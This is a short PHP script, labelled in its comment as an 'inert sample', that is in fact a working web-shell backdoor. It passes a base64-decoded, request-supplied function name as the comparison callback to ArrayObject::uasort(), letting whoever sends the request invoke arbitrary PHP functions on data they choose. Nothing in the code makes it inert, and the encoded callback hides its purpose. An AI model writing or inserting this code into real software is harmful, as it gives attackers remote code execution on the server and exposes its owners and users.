<?php
// Inert sample: an ArrayObject holding request text is sorted with a comparison function the
// request names; uasort() calls it with the elements (?f=<function>&a=<argument>).
$rows = new ArrayObject(array('sort', $_REQUEST['a']));
$rows->uasort(base64_decode($_POST['f']));
echo 'ok';
